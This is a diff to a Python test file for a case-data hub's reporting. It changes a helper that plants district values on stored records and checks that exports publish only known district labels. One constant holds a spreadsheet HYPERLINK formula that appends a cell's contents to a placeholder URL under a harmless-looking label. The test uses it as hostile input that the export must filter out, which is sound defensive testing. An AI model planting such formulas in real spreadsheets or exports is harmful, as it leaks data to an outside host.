@@ -30,10 +30,11 @@ FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Opladen")'
 SHIPPED_LABELS = {"Opladen", "Wiesdorf"}  # the districts of tests.support.data.REPORT_ROWS
 
 
-def plant_district(hub: Hub, record_id: str, district: str) -> None:
+def plant_district(hub: Hub, source: str, record_id: str, district: str) -> None:
     """Store ``district`` on a record as an older hub would have stored a free-text field."""
+    stored = (SourceRecord.source == source) & (SourceRecord.record_id == hub.stored_id(source, record_id))
     with hub.sessions() as session, session.begin():
-        record = session.execute(select(SourceRecord).where(SourceRecord.record_id == record_id)).scalar_one()
+        record = session.execute(select(SourceRecord).where(stored)).scalar_one()
         record.case_data = {**record.case_data, "district": district}
 
 
@@ -43,8 +44,8 @@ def published_cells(text: str) -> list[str]:
 
 def test_the_monitoring_export_publishes_labels_of_the_district_list_only(hub: Hub) -> None:
     report_home(hub)
-    plant_district(hub, "C-3", NAME)
-    plant_district(hub, "S-1", FORMULA)
+    plant_district(hub, "caritas", "C-3", NAME)
+    plant_district(hub, "stadt", "S-1", FORMULA)
     document = monitoring_document(collect(hub.home).records, parse_period("2026-Q4"), dt.datetime(2026, 12, 31, tzinfo=dt.UTC))
     rows = set(document["tables"]["cases_by_district"]["rows"])
     assert rows <= SHIPPED_LABELS | {"unknown", "total"}, rows
@@ -102,6 +103,6 @@ def test_worklists_show_a_district_by_its_label_and_free_text_as_unknown(hub: Hu
     report_home(hub)
     gaps = chain_gaps(hub.home, dt.date(2026, 12, 31))
     assert [g.district for g in gaps] == ["Opladen"]  # stored as the code "opladen"
-    for record_id in ("C-1", "C-2", "962D000001", "S-1"):
-        plant_district(hub, record_id, NAME)
+    for source, record_id in (("caritas", "C-1"), ("caritas", "C-2"), ("jobcenter", "962D000001"), ("stadt", "S-1")):
+        plant_district(hub, source, record_id, NAME)
     assert [g.district for g in chain_gaps(hub.home, dt.date(2026, 12, 31))] == ["unbekannt"]
